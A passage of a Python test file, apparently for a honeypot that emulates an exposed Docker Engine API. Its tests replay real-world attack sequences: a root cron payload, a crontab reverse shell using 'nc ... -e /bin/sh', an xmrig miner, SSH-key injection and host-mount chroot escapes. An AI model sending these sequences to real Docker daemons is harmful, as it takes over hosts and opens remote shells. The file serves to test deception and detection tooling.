"""The Docker Engine API: conversations with it, and the sequences of public tools up to what they came for."""

from __future__ import annotations

import asyncio
import io
import json
import re
import tarfile
from typing import cast

import pytest

from mirage.base.clock import ManualClock
from mirage.shell.programs.docker import dockerviews
from mirage.world.host import Host
from mirage.world.logs.lines import local
from tests.unit.gateway.http.sites.conftest import Machine, begin


@pytest.fixture
async def docker(host: Host) -> Machine:
    return begin(host, "docker")


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


async def test_metasploit_s_docker_daemon_tcp_gets_its_cron_job_onto_the_machine(docker: Machine) -> None:
    """exploit/linux/http/docker_daemon_tcp: check, pull, create, start, wait, delete; then the machine's cron has the payload."""
    check = await docker.ask("GET", "/containers/json", fields={"Accept": "application/json"})
    assert (check.status, check.field("Server")) == (200, "Docker/20.10.24+dfsg1 (linux)")
    assert b"alpine:latest" not in (await docker.ask("GET", "/images/json")).body
    assert (await docker.ask("POST", "/images/create?fromImage=alpine:latest")).status == 200
    command = (
        "echo aGVsbG8K | base64 -d > /mnt/aaaa/tmp/payload && chmod +x /mnt/aaaa/tmp/payload && "
        'echo "PATH=/sbin:/bin" >> /mnt/aaaa/etc/cron.d/job && echo "" >> /mnt/aaaa/etc/cron.d/job && '
        'echo "* * * * * root /tmp/payload" >> /mnt/aaaa/etc/cron.d/job'
    )
    body = {
        "Image": "alpine:latest",
        "Cmd": command,
        "Entrypoint": ["/bin/sh", "-c"],
        "HostConfig": {"Binds": ["/:/mnt/aaaa"], "Privileged": True, "UsernsMode": "host"},
    }
    assert (await docker.ask("POST", "/containers/create?name=qwertyui", _json(body))).status == 201
    assert (await docker.ask("POST", "/containers/qwertyui/start")).status == 204
    wait = await docker.ask("POST", "/containers/qwertyui/wait")
    assert (wait.status, wait.json) == (200, {"Error": None, "StatusCode": 0})
    assert (await docker.ask("DELETE", "/containers/qwertyui")).status == 204
    assert docker.read("/etc/cron.d/job") == b"PATH=/sbin:/bin\n\n* * * * * root /tmp/payload\n"
    assert docker.read("/tmp/payload") == b"hello\n"


async def test_a_port_that_a_site_opens_stands_once_among_the_sockets_also_where_they_were_looked_at_before(docker: Machine) -> None:
    """The port of dockerd, held by a program that this world has."""
    assert "2376" not in await docker.shell("ss -Hltn")
    opened = docker.host.network.opened
    for _ in range(2):
        docker.service.world.listens("sshd", 2376, 4)
    told = [line.split() for line in (await docker.shell("ss -Hltn")).splitlines() if "2376" in line]
    docker.host.network.opened = opened
    assert told == [["LISTEN", "0", "4096", "0.0.0.0:2376", "0.0.0.0:*"]]


async def test_docker_run_of_the_command_line_shows_what_the_program_says(docker: Machine) -> None:
    """`docker run -v /:/mnt alpine chroot /mnt sh -c ...`: the client attaches, waits, starts, and reads to the end."""
    assert (await docker.ask("HEAD", "/_ping")).field("Api-Version") == "1.41"
    await docker.ask("POST", "/v1.41/images/create?fromImage=alpine&tag=latest")
    body = {
        "Image": "alpine",
        "AttachStdout": True,
        "AttachStderr": True,
        "Cmd": ["chroot", "/mnt", "sh", "-c", "echo key > /root/.found; id"],
        "HostConfig": {"Binds": ["/:/mnt"], "NetworkMode": "default", "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}},
    }
    identity = (await docker.ask("POST", "/v1.41/containers/create", _json(body))).json["Id"]
    attached = docker.connect()
    attached.say(
        b"POST /v1.41/containers/%b/attach?stderr=1&stdout=1&stream=1 HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\n"
        b"Upgrade: tcp\r\nContent-Length: 0\r\nContent-Type: text/plain\r\n\r\n" % identity.encode()
    )
    await attached.rest()
    assert attached.wire.sent.startswith(b"HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n")
    waiting = asyncio.ensure_future(docker.ask("POST", f"/v1.41/containers/{identity}/wait?condition=next-exit", turns=100_000))
    await asyncio.sleep(0)
    assert (await docker.ask("POST", f"/v1.41/containers/{identity}/start")).status == 204
    assert (await waiting).json["StatusCode"] == 0
    await attached.rest()
    assert attached.wire.sent.endswith(b"\x01\x00\x00\x00\x00\x00\x00\x27uid=0(root) gid=0(root) groups=0(root)\n")
    assert docker.read("/root/.found") == b"key\n"


async def test_a_miner_of_an_image_that_nobody_knows_stands_in_both_process_lists(docker: Machine) -> None:
    """Kinsing's and TeamTNT's way: pull a miner's image, run it detached, restart always; then look whether it runs."""
    await docker.ask("POST", "/images/create?fromImage=minerlabs/xmr&tag=latest")
    body = {
        "Image": "minerlabs/xmr",
        "Cmd": ["xmrig", "-o", "pool.example.com:3333"],
        "HostConfig": {"RestartPolicy": {"Name": "always"}},
    }
    identity = (await docker.ask("POST", "/containers/create", _json(body))).json["Id"]
    assert (await docker.ask("POST", f"/containers/{identity}/start")).status == 204
    listed = (await docker.ask("GET", "/containers/json")).json
    assert [(entry["Id"], entry["State"], entry["Command"]) for entry in listed] == [
        (identity, "running", "xmrig -o pool.example.com:3333")
    ]
    assert "xmrig -o pool.example.com:3333" in docker.processes()
    assert (
        f"/usr/bin/containerd-shim-runc-v2 -namespace moby -id {identity} -address /run/containerd/containerd.sock"
        in docker.processes()
    )
    assert (await docker.ask("POST", f"/containers/{identity}/kill")).status == 204
    assert "xmrig -o pool.example.com:3333" not in docker.processes()
    assert (await docker.ask("GET", f"/containers/{identity}/json")).json["State"]["ExitCode"] == 137


async def test_an_exec_runs_in_the_container_that_runs(docker: Machine) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    await docker.ask("POST", "/containers/create?name=box", _json({"Image": "alpine", "Cmd": ["cat"], "OpenStdin": True}))
    await docker.ask("POST", "/containers/box/start")
    made = await docker.ask("POST", "/containers/box/exec", _json({"Cmd": ["cat", "/etc/alpine-release"], "AttachStdout": True}))
    started = await docker.ask("POST", f"/exec/{made.json['Id']}/start", b'{"Detach":false,"Tty":false}')
    assert (started.head.split(b"\r\n"), started.body) == (
        [b"HTTP/1.1 200 OK", b"Content-Type: application/vnd.docker.raw-stream"],
        b"\x01\x00\x00\x00\x00\x00\x00\x073.18.4\n",
    )
    assert (await docker.ask("GET", f"/exec/{made.json['Id']}/json")).json["ExitCode"] == 0
    again = await docker.ask("POST", f"/exec/{made.json['Id']}/start", b'{"Detach":false,"Tty":false}')
    assert again.body == b"\x01\x00\x00\x00\x00\x00\x00\x66Error: Exec command %b has already run\r\n" % made.json["Id"].encode()
    assert (await docker.ask("DELETE", "/containers/box")).status == 409
    assert (await docker.ask("DELETE", "/containers/box?force=1")).status == 204


async def test_vulhub_s_exploit_by_docker_py_adds_its_line_to_the_machine_s_crontab(docker: Machine) -> None:
    """vulhub's docker/unauthorized-rce: docker-py's containers.run() with /etc mounted; its requests as docker-py 7.2 sends them."""
    assert (await docker.ask("GET", "/version")).json["ApiVersion"] == "1.41"
    line = "* * * * * root /usr/bin/nc 192.0.2.9 21 -e /bin/sh"
    body = {
        "Tty": False, "OpenStdin": False, "StdinOnce": False, "AttachStdin": False, "AttachStdout": True, "AttachStderr": True,
        "Cmd": ["sh", "-c", f"echo '{line}' >> /tmp/etc/crontab"], "Image": "alpine:latest", "Volumes": {"/tmp/etc": {}},
        "NetworkDisabled": False, "HostConfig": {"NetworkMode": "default", "Binds": ["/etc:/tmp/etc:rw"]},
    }  # fmt: skip
    missing = await docker.ask("POST", "/v1.41/containers/create", _json(body))
    assert (missing.status, missing.json) == (404, {"message": "No such image: alpine:latest"})
    assert (await docker.ask("POST", "/v1.41/images/create?tag=latest&fromImage=alpine")).status == 200
    assert (await docker.ask("GET", "/v1.41/images/alpine:latest/json")).json["RepoTags"] == ["alpine:latest"]
    made = await docker.ask("POST", "/v1.41/containers/create", _json(body))
    container = f"/v1.41/containers/{made.json['Id']}"
    assert made.status == 201
    assert (await docker.ask("GET", f"{container}/json")).json["State"]["Status"] == "created"
    assert (await docker.ask("POST", f"{container}/start")).status == 204
    said = await docker.ask("GET", f"{container}/logs?stderr=0&stdout=1&timestamps=0&follow=1&tail=all", turns=100_000)
    assert (said.status, said.body) == (200, b"")
    assert (await docker.ask("POST", f"{container}/wait")).json == {"Error": None, "StatusCode": 0}
    assert (await docker.ask("DELETE", f"{container}?v=False&link=False&force=False")).status == 204
    assert docker.read("/etc/crontab").decode().splitlines()[-1] == line


RECORDED = [  # of dockerd 20.10.24+dfsg1 in a namespace; dates as `...`
    (
        "GET /_ping", b"HTTP/1.1 200 OK\r\nApi-Version: 1.41\r\nCache-Control: no-cache, no-store, must-revalidate\r\nDocker-Experimental: false"
        b"\r\nOstype: linux\r\nPragma: no-cache\r\nServer: Docker/20.10.24+dfsg1 (linux)\r\nDate: ...\r\nContent-Length: 2"
        b"\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close", b"OK",
    ),
    (
        "GET /", b"HTTP/1.1 404 Not Found\r\nContent-Type: application/json\r\nDate: ...\r\nContent-Length: 29\r\nConnection: close",
        b'{"message":"page not found"}\n',
    ),
    (
        "GET /v1.99/_ping", b"HTTP/1.1 400 Bad Request\r\nApi-Version: 1.41\r\nContent-Type: application/json\r\nOstype: linux\r\n"
        b"Server: Docker/20.10.24+dfsg1 (linux)\r\nDate: ...\r\nContent-Length: 84\r\nConnection: close",
        b'{"message":"client version 1.99 is too new. Maximum supported API version is 1.41"}\n',
    ),
    (
        "GET /v1.1/_ping", b"HTTP/1.1 400 Bad Request\r\nApi-Version: 1.41\r\nContent-Type: text/plain; charset=utf-8\r\nOstype: linux\r\n"
        b"Server: Docker/20.10.24+dfsg1 (linux)\r\nX-Content-Type-Options: nosniff\r\nDate: ...\r\nContent-Length: 116\r\nConnection: close",
        b"client version 1.1 is too old. Minimum supported API version is 1.12, please upgrade your client to a newer version\n",
    ),
    ("GET //version", b"HTTP/1.1 301 Moved Permanently\r\nLocation: /version\r\nDate: ...\r\nContent-Length: 0\r\nConnection: close", b""),
]  # fmt: skip


@pytest.mark.parametrize(("line", "head", "body"), RECORDED, ids=[line for line, _, _ in RECORDED])
async def test_answers_are_the_recorded_ones_to_the_byte(docker: Machine, line: str, head: bytes, body: bytes) -> None:
    answer = await docker.ask(*line.split(" "))
    assert (answer.head, answer.body) == (head, body)


FAULTS = [
    ("POST", "/containers/create", b'{"Image":"nope"}', 404, "No such image: nope:latest"),
    ("POST", "/containers/create", b'{"Image":"alpine"', 500, "unexpected EOF"),
    ("POST", "/containers/create", b"{x", 500, "invalid character 'x' looking for beginning of object key string"),
    ("POST", "/containers/create", b"{}", 400, "Config cannot be empty in order to create a container"),
    (
        "POST", "/containers/create", b'{"Image":1}', 500,
        "json: cannot unmarshal number into Go struct field ContainerConfigWrapper.Image of type string",
    ),
    ("POST", "/containers/create?name=f!", b'{"Image":"a"}', 400, "Invalid container name (f!), only [a-zA-Z0-9][a-zA-Z0-9_.-] are allowed"),
    ("GET", "/images/nope/json", None, 404, "no such image: nope: No such image: nope:latest"),
    ("GET", "/containers/nope/json", None, 404, "No such container: nope"),
    ("POST", "/exec/nope/start", b'{"Detach":true}', 404, "No such exec instance: nope"),
    ("POST", "/build", b"", 500, "Cannot locate specified Dockerfile: Dockerfile"),
]  # fmt: skip


@pytest.mark.parametrize(("method", "target", "body", "status", "message"), FAULTS)
async def test_faults_are_told_in_the_recorded_words(
    docker: Machine, method: str, target: str, body: bytes | None, status: int, message: str
) -> None:  # fmt: skip
    answer = await docker.ask(method, target, body)
    assert (answer.status, answer.json) == (status, {"message": message})


async def test_a_program_that_the_image_does_not_have_is_refused_at_the_start(docker: Machine) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    identity = (await docker.ask("POST", "/containers/create", _json({"Image": "alpine", "Cmd": ["nope"]}))).json["Id"]
    answer = await docker.ask("POST", f"/containers/{identity}/start")
    text = (
        "failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: "
        'exec: "nope": executable file not found in $PATH: unknown'
    )
    assert (answer.status, answer.json) == (400, {"message": text})
    assert not (await docker.ask("GET", "/containers/json")).json


async def test_what_a_container_said_is_in_its_log_file_and_in_its_logs(docker: Machine) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    body = _json({"Image": "alpine", "Cmd": ["sh", "-c", "echo out; echo err >&2"]})
    identity = (await docker.ask("POST", "/containers/create", body)).json["Id"]
    await docker.ask("POST", f"/containers/{identity}/start")
    await docker.ask("POST", f"/containers/{identity}/wait")
    logs = await docker.ask("GET", f"/containers/{identity}/logs?stdout=1&stderr=1")
    assert logs.body == b"\x01\x00\x00\x00\x00\x00\x00\x04out\n\x02\x00\x00\x00\x00\x00\x00\x04err\n"
    kept = docker.read(f"/var/lib/docker/containers/{identity}/{identity}-json.log")
    assert [json.loads(line)["log"] for line in kept.splitlines()] == ["out\n", "err\n"]
    assert (await docker.ask("GET", f"/containers/{identity}/logs")).json == {
        "message": "Bad parameters: you must choose at least one stream"
    }


async def test_what_runs_is_counted_with_its_image_stands_on_its_network_and_in_the_machine_s_own_time(docker: Machine) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    await docker.ask("POST", "/containers/create?name=box", _json({"Image": "alpine", "Cmd": ["cat"], "OpenStdin": True}))
    await docker.ask("POST", "/containers/box/start")
    known = (await docker.ask("GET", "/containers/box/json")).json
    used = (await docker.ask("GET", "/system/df")).json
    assert [image["Containers"] for image in used["Images"]] == [1]
    assert [(one["Id"], one["State"]) for one in used["Containers"]] == [(known["Id"], "running")]
    ends = known["NetworkSettings"]
    assert (await docker.ask("GET", "/networks/bridge")).json["Containers"] == {
        known["Id"]: {
            "Name": "box", "EndpointID": ends["EndpointID"], "MacAddress": ends["MacAddress"],
            "IPv4Address": f"{ends['IPAddress']}/16", "IPv6Address": "",
        },
    }  # fmt: skip
    (row,) = (await docker.ask("GET", "/containers/box/top")).json["Processes"]
    assert row[4] == f"{local(docker.host.clock.now(), docker.host.identity.timezone):%H:%M}"
    await docker.ask("DELETE", "/containers/box?force=1")
    assert (await docker.ask("GET", "/networks/bridge")).json["Containers"] == {}


async def test_the_daemon_s_networks_are_as_old_as_it_is_and_say_so_in_the_machine_s_own_time(docker: Machine) -> None:
    await docker.shell("echo -n 272 > /run/docker.pid; touch -d '2025-02-03 04:05:06.5' /run/docker.pid")
    zone = (await docker.shell("date -r /run/docker.pid +%:z")).strip()
    networks = (await docker.ask("GET", "/networks")).json
    written = f"2025-02-03T04:05:06.5{'Z' if zone == '+00:00' else zone}"
    assert [(one["Name"], one["Created"]) for one in networks] == [(name, written) for name in ("bridge", "host", "none")]


async def test_docker_s_lists_over_ssh_are_those_of_the_port(docker: Machine) -> None:
    """As the client of docker.io 20.10.24 shows what the port answers it."""
    docker.service.world.hands((docker.source, 1), "session", docker.events.append).stand(
        ["/usr/sbin/dockerd"], exe=b"/usr/sbin/dockerd"
    )
    known = (await docker.ask("GET", "/networks")).json
    assert await docker.shell("docker network ls") == "NETWORK ID     NAME      DRIVER    SCOPE\n" + "".join(
        f"{one['Id'][:12]}   {one['Name']:<10}{one['Driver']:<10}local\n" for one in known
    )
    assert await docker.shell("docker volume ls") == "DRIVER    VOLUME NAME\n"
    await docker.ask("POST", "/volumes/create", b'{"Name": "kept"}')
    assert await docker.shell("docker volume ls; docker volume ls -q") == "DRIVER    VOLUME NAME\nlocal     kept\nkept\n"
    facts = (await docker.ask("GET", "/info")).json
    told = await docker.shell("docker info")
    for line in (
        f" ID: {facts['ID']}", f" Name: {facts['Name']}", f" Kernel Version: {facts['KernelVersion']}", f" CPUs: {facts['NCPU']}",
        f" Total Memory: {facts['MemTotal'] / (1 << 30):.4g}GiB", f" Images: {facts['Images']}", "  Running: 0",
    ):  # fmt: skip
        assert f"\n{line}\n" in told
    assert told.endswith(f" Live Restore Enabled: false\n\n{dockerviews.WARNING}")
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    await docker.ask("POST", "/containers/create?name=box", _json({"Image": "alpine", "Cmd": ["cat"], "OpenStdin": True}))
    await docker.ask("POST", "/containers/box/start")
    (row,) = (await docker.ask("GET", "/containers/box/top")).json["Processes"]
    wide = [dockerviews.TOP, row]
    assert await docker.shell("docker top box") == "".join(
        "".join(f"{cell:<20}" for cell in one[:-1]) + one[-1] + "\n" for one in wide
    )
    assert await docker.shell("docker top nope") == "Error response from daemon: No such container: nope\n"
    assert (await docker.shell("docker volume")).splitlines()[1:6] == [
        "Usage:  docker volume COMMAND", "", "Manage volumes", "", "Commands:",
    ]  # fmt: skip
    await docker.ask("DELETE", "/containers/box?force=1")


async def test_docker_ps_over_ssh_shows_what_the_port_has_started(docker: Machine) -> None:
    assert (await docker.shell("docker ps")).startswith("Cannot connect to the Docker daemon at unix:///var/run/docker.sock.")
    docker.service.world.hands((docker.source, 1), "session", docker.events.append).stand(
        ["/usr/sbin/dockerd"], exe=b"/usr/sbin/dockerd"
    )
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    await docker.ask("POST", "/containers/create?name=box", _json({"Image": "alpine", "Cmd": ["cat"], "OpenStdin": True}))
    await docker.ask("POST", "/containers/box/start")
    identity = (await docker.ask("GET", "/containers/box/json")).json["Id"]
    cast(ManualClock, docker.host.clock).advance(150)  # so that a second more or less is no other age
    assert await docker.shell("docker ps") == (
        "CONTAINER ID   IMAGE     COMMAND   CREATED         STATUS         PORTS     NAMES\n"
        f'{identity[:12]}   alpine    "cat"     2 minutes ago   Up 2 minutes             box\n'
    )
    assert await docker.shell("docker exec box cat /etc/alpine-release") == "3.18.4\n"
    assert await docker.shell("docker kill box; docker ps -q; docker rm box; docker ps -aq") == "box\nbox\n"
    assert (await docker.ask("GET", "/containers/json?all=1")).json == []


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ({"Image": 5}, "number into Go struct field ContainerConfigWrapper.Image of type string"),
        (
            {"Image": "a", "HostConfig": {"Binds": "/:/mnt"}},
            "string into Go struct field HostConfig.HostConfig.Binds of type []string",
        ),
        (
            {"Image": "a", "HostConfig": {"PortBindings": {"80/tcp": [{"HostPort": 80}]}}},
            "number into Go struct field PortBinding.HostConfig.PortBindings.HostPort of type string",
        ),
        ({"Image": "a", "Cmd": [1]}, "number into Go value of type string"),
    ],
)
async def test_a_field_of_another_kind_is_refused_in_the_words_of_its_decoder(docker: Machine, body: object, words: str) -> None:
    answer = await docker.ask("POST", "/containers/create", _json(body))
    assert (answer.status, answer.json) == (500, {"message": f"json: cannot unmarshal {words}"})


@pytest.mark.parametrize("query", ["tail=%C2%B2", f"tail={'9' * 5000}", "tail=-1", "since=x"])
async def test_numbers_that_are_none_are_read_over(docker: Machine, query: str) -> None:
    assert (await docker.ask("POST", "/containers/create?name=odd", _json({"Image": "alpine", "Cmd": ["id"]}))).status in (201, 404)
    assert (await docker.ask("GET", f"/containers/odd/logs?stdout=1&{query}")).status in (200, 404)


async def test_the_long_form_of_a_mount_is_one(docker: Machine) -> None:
    """`docker run --mount type=bind,src=/,dst=/host`."""
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    mount = {"Type": "bind", "Source": "/", "Target": "/host"}
    body = {"Image": "alpine", "Cmd": ["sh", "-c", "echo in > /host/tmp/from-container"], "HostConfig": {"Mounts": [mount]}}
    identity = (await docker.ask("POST", "/containers/create", _json(body))).json["Id"]
    assert (await docker.ask("POST", f"/containers/{identity}/start")).status == 204
    await docker.ask("POST", f"/containers/{identity}/wait")
    assert docker.read("/tmp/from-container") == b"in\n"
    shown = (await docker.ask("GET", f"/containers/{identity}/json")).json
    assert shown["Mounts"] == [
        {"Type": "bind", "Source": "/", "Destination": "/host", "Mode": "", "RW": True, "Propagation": "rslave"}
    ]
    body["HostConfig"] = {"Mounts": [{**mount, "Source": "/nowhere"}]}
    refused = await docker.ask("POST", "/containers/create", _json(body))
    words = 'invalid mount config for type "bind": bind source path does not exist: /nowhere'
    assert (refused.status, refused.json) == (400, {"message": words})


def _context(**files: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            entry = tarfile.TarInfo(name.replace("__", "/"))
            entry.size, entry.mode = len(data), 0o755
            archive.addfile(entry, io.BytesIO(data))
    return buffer.getvalue()


async def _built(docker: Machine, text: str, **files: bytes) -> list[dict[str, object]]:
    body = _context(Dockerfile=text.encode(), **files)
    answer = await docker.ask("POST", "/build?t=own/thing:1", body, {"Content-Type": "application/x-tar"}, turns=200_000)
    assert answer.status == 200
    return answer.lines


async def test_an_image_is_built_and_what_it_holds_runs(docker: Machine) -> None:
    text = 'FROM alpine\nENV WHO=world\nCOPY run.sh /opt/\n# a remark\nRUN echo made > /made && \\\n    cat /made\nCMD ["/bin/sh", "/opt/run.sh"]\n'
    lines = await _built(docker, text, **{"run.sh": b"echo hello $WHO; cat /made\n"})
    said = "".join(str(line.get("stream", "")) for line in lines)
    assert said.startswith("Step 1/5 : FROM alpine\n ---> ")
    assert "Step 4/5 : RUN echo made > /made &&     cat /made\n ---> Running in " in said
    assert "\nmade\nRemoving intermediate container " in said
    assert said.endswith("Successfully tagged own/thing:1\n")
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", str(next(line["aux"]["ID"] for line in lines if "aux" in line)))  # type: ignore[index]
    await docker.ask("POST", "/containers/create?name=made", _json({"Image": "own/thing:1"}))
    assert (await docker.ask("POST", "/containers/made/start")).status == 204
    assert (await docker.ask("POST", "/containers/made/wait")).json["StatusCode"] == 0
    logs = await docker.ask("GET", "/containers/made/logs?stdout=1")
    assert b"hello world\n" in logs.body
    assert b"made\n" in logs.body
    assert "own/thing:1" in (await docker.ask("GET", "/images/json")).body.decode()


async def test_a_build_ends_where_a_command_fails_and_leaves_nothing(docker: Machine) -> None:
    lines = await _built(docker, "FROM alpine\nRUN exit 3\n")
    words = "The command '/bin/sh -c exit 3' returned a non-zero code: 3"
    assert lines[-1] == {"errorDetail": {"code": 3, "message": words}, "error": words}
    assert "own/thing" not in (await docker.ask("GET", "/images/json")).body.decode()
    assert (await docker.ask("GET", "/containers/json?all=1")).json == []


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (_context(other=b"x"), "Cannot locate specified Dockerfile: Dockerfile"),
        (_context(Dockerfile=b"NONSENSE x\n"), "dockerfile parse error line 1: unknown instruction: NONSENSE"),
        (_context(Dockerfile=b"RUN true\n"), "no build stage in current context"),
        (b"no tar at all", "Error processing tar file(exit status 1): unexpected EOF"),
    ],
)
async def test_what_can_not_be_built_is_said(docker: Machine, body: bytes, words: str) -> None:
    answer = await docker.ask("POST", "/build", body, {"Content-Type": "application/x-tar"})
    assert answer.json == {"message": words}


async def test_a_container_s_files_are_kept_as_an_image_and_copied_anew(docker: Machine) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine:latest")
    await docker.ask("POST", "/containers/create?name=one", _json({"Image": "alpine", "Cmd": ["sh", "-c", "echo kept > /root/note"]}))
    await docker.ask("POST", "/containers/one/start")
    await docker.ask("POST", "/containers/one/wait")
    assert (await docker.ask("POST", "/commit?container=one&repo=kept&tag=2")).status == 201
    await docker.ask(
        "POST", "/containers/create?name=two", _json({"Image": "kept:2", "Cmd": ["sh", "-c", "cat /root/note; rm /root/note"]})
    )
    await docker.ask("POST", "/containers/two/start")
    await docker.ask("POST", "/containers/two/wait")
    assert b"kept\n" in (await docker.ask("GET", "/containers/two/logs?stdout=1")).body
    await docker.ask("POST", "/containers/create?name=three", _json({"Image": "kept:2", "Cmd": ["cat", "/root/note"]}))
    await docker.ask("POST", "/containers/three/start")
    assert (await docker.ask("POST", "/containers/three/wait")).json["StatusCode"] == 0


async def test_a_key_that_is_put_in_through_a_mount_is_there_for_ssh(docker: Machine) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine:latest")
    command = "mkdir -p /host/root/.ssh; echo 'ssh-ed25519 AAAA own' >> /host/root/.ssh/authorized_keys; chmod 600 /host/root/.ssh/authorized_keys"
    body = {
        "Image": "alpine",
        "Cmd": ["sh", "-c", command],
        "HostConfig": {"Mounts": [{"Type": "bind", "Source": "/", "Target": "/host"}]},
    }
    await docker.ask("POST", "/containers/create?name=key", _json(body))
    await docker.ask("POST", "/containers/key/start")
    await docker.ask("POST", "/containers/key/wait")
    assert docker.read("/root/.ssh/authorized_keys").endswith(b"ssh-ed25519 AAAA own\n")


async def _run(docker: Machine, name: str, command: str, **host: object) -> str:
    """What a container says that runs a command."""
    await docker.ask("POST", "/images/create?fromImage=alpine:latest")
    body = {"Image": "alpine", "Cmd": ["sh", "-c", command], "Tty": True, "HostConfig": host}
    await docker.ask("POST", f"/containers/create?name={name}", _json(body))
    await docker.ask("POST", f"/containers/{name}/start")
    await docker.ask("POST", f"/containers/{name}/wait", turns=100_000)
    return (await docker.ask("GET", f"/containers/{name}/logs?stdout=1")).body.decode().replace("\r", "")


async def test_a_container_has_a_name_and_mounts_of_its_own(docker: Machine) -> None:
    said = (
        await _run(docker, "own", "hostname; cat /etc/hostname; uname -n; cut -d' ' -f2,3 /proc/mounts; df / | tail -1")
    ).splitlines()
    identity = (await docker.ask("GET", "/containers/own/json")).json["Id"]
    assert said[:3] == [identity[:12]] * 3
    assert sorted(said[3:-1]) == ["/ overlay", "/dev tmpfs", "/proc proc", "/sys sysfs"]
    assert said[-1].split()[0] == "overlay"
    assert (await _run(docker, "hosts", "hostname", NetworkMode="host")).strip() == docker.host.hostname


async def test_a_container_counts_its_processes_from_one_and_sees_no_others(docker: Machine) -> None:
    said = await _run(
        docker, "few", "echo $$; ls -d /proc/[0-9]* | wc -l; cat /proc/1/comm /proc/self/cgroup; kill -9 2>/dev/null; ps", PidMode=""
    )
    lines = said.splitlines()
    assert lines[0] == "1" and int(lines[1]) <= 3 and lines[2:4] == ["sh", "0::/"]
    assert next(line.split()[0] for line in lines if "root" in line) == "1" and "systemd" not in said


async def test_the_machine_sees_a_container_s_processes_by_its_own_numbers_and_ends_them(docker: Machine) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine:latest")
    await docker.ask("POST", "/containers/create?name=long", _json({"Image": "alpine", "Cmd": ["cat"], "OpenStdin": True}))
    await docker.ask("POST", "/containers/long/start")
    shown = (await docker.ask("GET", "/containers/long/json")).json
    pid, table = shown["State"]["Pid"], docker.host.place(docker.layer).table
    entry = table.find(pid)
    assert entry is not None and entry.cmdline == [b"cat"] and entry.pid == pid > 1
    assert entry.unit == f"system.slice/docker-{shown['Id']}.scope"
    shim = table.find(entry.ppid)
    assert shim is not None and shim.comm == b"containerd-shim"
    assert await docker.shell(f"cat /proc/{pid}/comm; kill -9 {pid}; sleep 1; ls -d /proc/{pid} 2>&1") == (
        f"cat\nls: cannot access '/proc/{pid}': No such file or directory\n"
    )
    assert (await docker.ask("GET", "/containers/long/json")).json["State"]["ExitCode"] == 137


async def test_who_shares_the_machine_s_processes_sees_them_all(docker: Machine) -> None:
    assert "systemd" in await _run(docker, "host", "cat /proc/1/comm", PidMode="host")


async def test_who_has_mounted_the_machine_s_disk_is_on_the_machine(docker: Machine) -> None:
    said = await _run(
        docker, "far", "chroot /mnt sh -c 'grep -c . /etc/passwd; ls /proc/1/cmdline; cat /proc/1/comm'", Binds=["/:/mnt"]
    )
    passwd = docker.read("/etc/passwd").count(b"\n")
    assert said == f"{passwd}\n/proc/1/cmdline\nsystemd\n"


async def test_a_volume_that_is_made_is_listed_mounted_and_in_use(docker: Machine) -> None:
    made = (await docker.ask("POST", "/volumes/create", b'{"Name":"loot"}')).json
    assert (await docker.ask("GET", "/volumes")).json["Volumes"] == [made]
    await _run(docker, "user", "echo words > /data/file", Binds=["loot:/data"])
    assert docker.read("/var/lib/docker/volumes/loot/_data/file") == b"words\n"
    assert (await docker.ask("DELETE", "/volumes/loot")).status == 409
    await docker.ask("DELETE", "/containers/user?force=1")
    assert (await docker.ask("DELETE", "/volumes/loot")).status == 204
    assert (await docker.ask("GET", "/volumes/loot")).json == {"message": "get loot: no such volume"}


async def test_a_network_that_is_made_is_listed_until_it_is_removed(docker: Machine) -> None:
    identity = (await docker.ask("POST", "/networks/create", b'{"Name":"mesh"}')).json["Id"]
    known = (await docker.ask("GET", "/networks?filters=%7B%22type%22%3A%5B%22custom%22%5D%7D")).json
    assert [(network["Name"], network["Id"], network["IPAM"]["Config"][0]["Subnet"]) for network in known] == [
        ("mesh", identity, "172.18.0.0/16")
    ]
    assert (await docker.ask("POST", "/networks/create", b'{"Name":"mesh"}')).json == {
        "message": "network with name mesh already exists"
    }
    assert (await docker.ask("DELETE", "/networks/bridge")).json == {
        "message": "bridge is a pre-defined network and cannot be removed"
    }
    assert (await docker.ask("DELETE", f"/networks/{identity[:12]}")).status == 204
    assert [network["Name"] for network in (await docker.ask("GET", "/networks")).json] == ["bridge", "host", "none"]


async def test_another_process_in_a_container_calls_it_by_the_same_name(docker: Machine) -> None:
    await docker.ask("POST", "/images/create?fromImage=alpine&tag=latest")
    identity = (
        await docker.ask("POST", "/containers/create?name=named", _json({"Image": "alpine", "Cmd": ["cat"], "OpenStdin": True}))
    ).json["Id"]
    await docker.ask("POST", "/containers/named/start")
    made = (await docker.ask("POST", "/containers/named/exec", _json({"Cmd": ["hostname"], "AttachStdout": True}))).json["Id"]
    said = (await docker.ask("POST", f"/exec/{made}/start", b"{}")).body
    assert said[8:] == identity[:12].encode() + b"\n"
    assert b"bin/busybox" in (await docker.ask("GET", "/containers/named/export")).body
    assert (await docker.ask("DELETE", "/containers/named?force=1")).status == 204


@pytest.mark.parametrize(
    ("made_of", "name"),
    [("ubuntu", "Ubuntu 24.04.3 LTS"), ("alpine", "Alpine Linux v3.18")],
)
async def test_an_image_s_system_is_the_one_that_it_is_made_of(docker: Machine, made_of: str, name: str) -> None:
    await docker.ask("POST", f"/images/create?fromImage={made_of}&tag=latest")
    await docker.ask(
